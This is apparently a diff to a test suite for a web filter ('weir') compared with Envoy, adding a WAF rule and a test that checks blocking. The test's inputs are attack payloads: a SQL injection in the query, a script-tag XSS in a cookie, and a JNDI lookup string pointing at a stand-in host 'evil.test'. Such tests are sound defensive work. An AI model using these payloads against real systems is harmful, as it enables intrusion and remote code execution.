@@ -109,6 +109,7 @@ const PLACES: Place[] = [
     contentSecurityPolicyReportOnly: { directives: ["default-src 'self'"] },
     permissionsPolicy: { usb: ['self', 'https://a.test'] },
   }),
+  place('waf', 'waf', { exclude: [{ rules: ['sql/*'], targets: ['args.free'] }] }),
   place('nonce', 'security-headers', {
     contentSecurityPolicy: { directives: ['script-src ${nonce}'] },
     nonceHeader: 'x-nonce',
@@ -377,6 +378,16 @@ describe('a filter that ships with weir does the same in Envoy', () => {
     expect((await both.compare(post('{}', 'text/plain'))).answer.status).toBe(415);
     const [weir, envoy] = await both.each(post('{}'));
     expect([weir.answer.status, envoy.answer.status]).toEqual([400, 200]);
+  });
+
+  test('waf: attacks in query, cookies and fields, what is none, and what is excluded', async () => {
+    const ask = async (path: string, ...fields: string[]): Promise<number> =>
+      (await send('waf', path, 'User-Agent: x', ...fields)).answer.status;
+    expect(await ask('/?q=shoes')).toBe(200);
+    expect(await ask('/?q=1%27+union+select+a+from+b')).toBe(403);
+    expect(await ask('/?free=1%27+union+select+a+from+b')).toBe(200);
+    expect(await ask('/', 'Cookie: a=<script>alert(1)</script>')).toBe(403);
+    expect(await ask('/', 'X-Api-Version: ${jndi:ldap://evil.test/a}')).toBe(403);
   });
 
   test('oidc: programs are refused alike; nobody can log in where the host cannot seal', async () => {
